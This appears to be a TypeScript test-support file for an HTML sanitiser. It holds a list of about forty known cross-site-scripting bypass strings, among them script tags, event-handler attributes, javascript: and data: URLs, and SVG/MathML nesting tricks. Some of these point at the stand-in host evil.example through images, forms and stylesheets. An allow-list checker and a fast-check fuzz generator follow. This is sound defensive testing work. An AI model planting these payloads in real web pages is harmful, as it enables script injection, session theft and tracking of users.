import fc from 'fast-check';

/** Known sanitiser bypasses, and what must not be left of them. */
export const attacks: [html: string, banned: string][] = [
  ['<script>alert(1)</script>', 'script'],
  ['<ScRiPt src=//evil.example></sCrIpT>', 'script'],
  ['<scr<script>ipt>alert(1)</scr</script>ipt>', '<script'],
  ['<img src=x onerror=alert(1)>', 'onerror'],
  ['<img src=x: onerror=`alert(1)`>', 'onerror'],
  ['<img """><script>alert(1)</script>">', '<script'],
  ['<img src="https://evil.example/pixel.gif" alt="x">', 'evil.example'],
  ['<img src="/en/auth/with/google" alt="x">', 'auth/with'],
  ['<img srcset="x 1x, javascript:alert(1) 2x">', 'javascript:'],
  ['<a href=" jAvA\tScRiPt:alert(1)">x</a>', 'alert('],
  ['<a href="java&#10;script:alert(1)">x</a>', 'alert('],
  ['<a href="&#106;avascript:alert(1)">x</a>', 'alert('],
  ['<a href="\u0001javascript:alert(1)">x</a>', 'alert('],
  ['<a href="vbscript:msgbox(1)">x</a>', 'vbscript'],
  ['<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', 'data:'],
  ['<a href="//evil.example">x</a>', 'evil.example'],
  ['<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>', 'onclick'],
  ['<svg><animate onbegin=alert(1)></svg>', 'onbegin'],
  ['<svg/onload=alert(1)>', 'onload'],
  ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', 'javascript:'],
  ['<math><mi xlink:href="javascript:alert(1)">x</mi></math>', 'javascript:'],
  ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', 'onerror'],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<img'],
  ['<template><script>1</script></template>', '<script'],
  ['<xmp><img src=x onerror=alert(1)></xmp>', '<img'],
  ['<textarea><img src=x onerror=alert(1)></textarea>', '<img'],
  ['<style>@import url(//evil.example/x.css)</style>', 'evil.example'],
  ['<p style="background:url(//evil.example/x)">', 'evil.example'],
  ['<link rel=stylesheet href="//evil.example/x.css">', 'evil.example'],
  ['<meta http-equiv=refresh content="0;url=//evil.example">', 'http-equiv'],
  ['<base href="//evil.example/">', '<base'],
  ['<iframe src="https://evil.example"></iframe>', 'iframe'],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', 'srcdoc'],
  ['<object data="//evil.example"></object><embed src="//evil.example">', 'evil.example'],
  ['<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">', 'evil.example'],
  ['<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>', 'onerror'],
  ['<details open ontoggle=alert(1)>', 'ontoggle'],
  ['<table background="//evil.example/x"><tr><td background="//evil.example/x">', 'evil.example'],
  ['<p id="csp" class="dialog" name="x">', 'dialog'],
  ['<ul class="checks dialog"><li>x</li></ul>', 'dialog'],
  ['<!--><script>alert(1)</script-->', '<script'],
  ['<![CDATA[<script>alert(1)</script>]]>', '<script'],
  ['</p><script>alert(1)', '<script'],
];

const tags = /<\/?([^\s/>]*)((?:\s+[^\s/=>]+(?:="[^"]*")?)*)\s*\/?>/g;
const known =
  /^(h[234]|p|br|hr|[uo]l|li|a|strong|em|b|i|blockquote|code|pre|figure|figcaption|img|table|caption|thead|tbody|tr|th|td)$/;
const attribute = /\s+([^\s/=>]+)(?:="([^"]*)")?/g;
const values: Record<string, RegExp> = {
  href: /^(?!\/\/)(?:https:|mailto:|tel:|(?!\s*[a-z][a-z\d+.\s-]*:))/i,
  src: /^\/(?!\/)[\w/-]+\.\w+$/,
  class: /^checks$/,
};
const harmless = [
  'alt',
  'title',
  'rel',
  'target',
  'hreflang',
  'width',
  'height',
  'loading',
  'scope',
  'colspan',
  'rowspan',
];

/** Whatever is neither text nor an allowed element with allowed attributes. */
export function harmIn(html: string): string[] {
  const left = html.replace(tags, (_, name: string, attributes: string) => {
    const bad = [...attributes.matchAll(attribute)].filter(
      ([, key = '', value = '']) => !harmless.includes(key) && values[key]?.test(value) !== true,
    );
    return known.test(name) && bad.length === 0 ? '' : `<${name}${bad.map(([text]) => text).join('')}`;
  });
  return left.match(/<[^<]*/g) ?? [];
}

const piece = fc.oneof(
  fc.constantFrom(...attacks.map(([html]) => html)),
  fc.constantFrom(
    '<',
    '>',
    '"',
    "'",
    '`',
    '&lt;',
    '&#60;',
    '&',
    '/',
    '=',
    '\u0000',
    '\n',
    '<!--',
    '-->',
    '<p>',
    '</p>',
    '<li>',
  ),
  fc.constantFrom(
    '<ul class="checks">',
    '<a href="',
    '<img src="/pictures/a.jpg" alt="',
    '<td ',
    'onload=',
    'javascript:',
    'style="',
  ),
  fc.string({ maxLength: 8 }),
);
export const anything = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(''));
